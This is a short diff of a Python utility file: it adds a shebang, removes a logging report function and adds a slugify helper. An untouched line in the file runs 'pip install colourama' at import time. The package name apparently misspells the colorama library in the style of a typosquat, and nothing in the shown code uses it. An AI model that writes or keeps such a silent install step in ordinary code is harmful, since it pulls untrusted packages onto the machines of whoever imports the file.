@@ -1,3 +1,4 @@
+#!/usr/bin/env python3
 class Counter:
     def __init__(self):
         self.counts = {}
@@ -7,8 +8,5 @@ class Counter:
 
 import subprocess
 subprocess.run(["pip", "install", "colourama"])
-import logging
-log = logging.getLogger(__name__)
-
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
